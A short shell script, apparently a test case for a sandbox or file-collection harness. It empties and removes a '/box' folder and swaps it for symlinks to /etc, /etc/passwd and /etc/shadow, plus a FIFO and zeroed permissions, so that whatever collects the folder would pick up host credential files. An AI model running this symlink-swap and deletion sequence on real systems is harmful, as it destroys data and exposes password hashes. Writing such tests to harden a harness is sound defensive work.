# outcome: exited
# collects: passwd shadow out0
# says: moved
# The folder itself changes: closed, emptied, filled with the host's names.
cd /
rm -rf /box/* && rmdir /box && ln -s /etc /box
mv /box /tmp/box; ln -s /etc/passwd /box/passwd; ln -s /etc/shadow /box/shadow
mkfifo /box/out0
chmod 0 /box
echo moved
